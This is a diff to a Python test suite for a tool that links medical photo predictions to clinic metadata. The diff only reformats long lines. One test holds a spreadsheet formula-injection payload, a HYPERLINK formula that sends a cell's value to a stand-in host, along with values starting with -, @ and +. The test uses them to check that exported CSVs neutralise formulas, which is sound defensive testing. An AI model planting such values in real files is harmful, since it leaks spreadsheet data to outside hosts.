@@ -104,7 +104,8 @@ def test_packed_dataset_folder_as_metadata(tmp_path):
     ds = tmp_path / "ds"
     _csv(ds / "train" / "metadata.csv", ["file_name", "label", "site", "patient_id", "visit", "image_id"],
          [["1.jpg", "head", "head", "P9", "V2", "1"]])
-    _csv(ds / "validation" / "metadata.csv", ["file_name", "label", "site", "patient_id", "visit", "image_id"],
+    _csv(ds / "validation" / "metadata.csv",
+         ["file_name", "label", "site", "patient_id", "visit", "image_id"],
          [["1.jpg", "foot", "left_foot", "P8", "V1", "1"]])
     preds = _csv(tmp_path / "p.csv", PRED_HEADER, [["train/1.jpg", "head", "0.9", "False", "ok", ""],
                                                    ["validation/1.jpg", "leg", "0.6", "True", "ok", ""]])
@@ -196,7 +197,8 @@ def test_link_csvs_cannot_run_formulas(tmp_path):
     evil = '=HYPERLINK("http://x/?"&A1).jpg'
     preds, scores, meta = _one_visit(
         tmp_path, [["-P1", "@V1", "chest", 1, 0, 0, 0, 0, 0], ["-P1", "@V1", "+tail", 1, 0, 0, 0, 0, 0]],
-        pred_rows=[["'" + evil, "chest", "0.9", "False", "ok", ""], ["+x.jpg", "", "", "", "unreadable", "-err"]],
+        pred_rows=[["'" + evil, "chest", "0.9", "False", "ok", ""],
+                   ["+x.jpg", "", "", "", "unreadable", "-err"]],
         meta_rows=[[evil, "-P1", "@V1"]])
     s = run_link(preds, scores, meta, tmp_path / "o", plots=False).summary
     assert s["photos_linked"] == 1
@@ -226,4 +228,5 @@ def test_packed_dataset_codes_meet_the_clinic_ids(tmp_path):
                   [[i.patient_id, i.visit, i.site, 1, 0, 0, 0, 0, 0] for i in items])
     s = run_link(preds, scores, tmp_path / "ds", tmp_path / "o", plots=False).summary
     assert s["photos_linked"] == 4 and s["score_rows_unmatched"] == 0
-    assert {r["patient_id"] for r in _read(tmp_path / "o" / "linked_photos.csv")} == {i.patient_id for i in items}
+    assert ({r["patient_id"] for r in _read(tmp_path / "o" / "linked_photos.csv")}
+            == {i.patient_id for i in items})
